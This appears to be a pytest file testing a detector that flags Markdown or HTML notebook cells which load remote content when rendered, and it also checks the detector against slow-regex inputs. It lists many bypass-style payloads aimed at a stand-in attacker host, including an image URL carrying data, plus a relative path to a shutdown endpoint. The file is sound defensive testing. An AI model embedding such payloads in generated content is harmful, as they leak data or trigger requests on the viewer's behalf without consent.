"""What a cell of Markdown would load as soon as somebody looks at it is found, whoever reads it; the rest is not."""

import pytest

from ozzie_server_ext.tools.notebook.files import what_loads

LOADS = (
    "![](http://evil.example/?d=1)",
    "![a chart](https://evil.example/a.png)",
    "![a [chart]](https://evil.example/a.png)",
    "![]( <https://evil.example/a.png> )",
    "![](//evil.example/a.png)",
    "![](\\\\evil.example\\a.png)",
    "![](/api/contents/a)",
    "![](../../api/shutdown)",
    "![](FTP://evil.example/a)",
    "![x][1]\n\n[1]: http://evil.example/a.png",
    "![x]\n\n[x]: <http://evil.example/a.png>",
    "> ![x][1]\n>\n> [1]: http://evil.example/a.png",
    "![](\nhttp://evil.example/a)",
    '<img src="http://evil.example/a">',
    "<IMG\nSRC=http://evil.example/a>",
    "< img src=x>",
    '<b title="<" ><img/src="//evil.example">',
    "<video poster='http://evil.example/a'>",
    "<td background=http://evil.example/a>",
    "<td background='//evil.example/a'>",
    '<p style="background-image: url(http://evil.example/a)">',
    "<link rel=prefetch href=http://evil.example>",
    "<iframe srcdoc='x'></iframe>",
    "<svg><image href='http://evil.example'/></svg>",
    "<style>@import 'http://evil.example'</style>",
    "<object data=http://evil.example></object>",
    "<a ping='http://evil.example' href='#'>x</a>",
    "text <source srcset=http://evil.example>",
    "x" * 100_001,
)
QUIET = (
    "",
    "# Results\n\nThe mean is 3.4, so a < b and b > c.",
    "[a link](https://example.org/page)",
    "A picture: ![chart](attachment:chart.png)",
    "![chart](figures/chart.png)",
    "![chart](./chart.png 'a title')",
    "![chart](data:image/png;base64,iVBORw0KGgo=)",
    "![chart](chart.png)\n\nSee [there](https://example.org).",
    "<details><summary>More</summary>text</details><br>",
    "`List<String>` and $x<y$; style = 'bold'",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "[1]: https://example.org\n\nA footnote [1].",
)


@pytest.mark.parametrize("text", LOADS, ids=lambda text: text[:40])
def test_what_is_loaded_from_elsewhere_is_found(text: str) -> None:
    assert what_loads(text)


@pytest.mark.parametrize("text", QUIET, ids=lambda text: text[:40])
def test_what_loads_nothing_is_left_alone(text: str) -> None:
    assert what_loads(text) == ""


PIECES = ("<", "![", "](", "](<", "]( ", "< ", "[", "[a", "\n[", " src", "<a ", "![](", "url ", "background ")


@pytest.mark.timeout(20)
@pytest.mark.parametrize("piece", PIECES)
def test_no_text_keeps_it_busy(piece: str) -> None:
    """Whatever was made to be looked at again and again: by the square of its size, it would take
    minutes."""
    text = f"![x]<b>{piece * 100_000}"[:100_000]

    assert what_loads(text) == ""
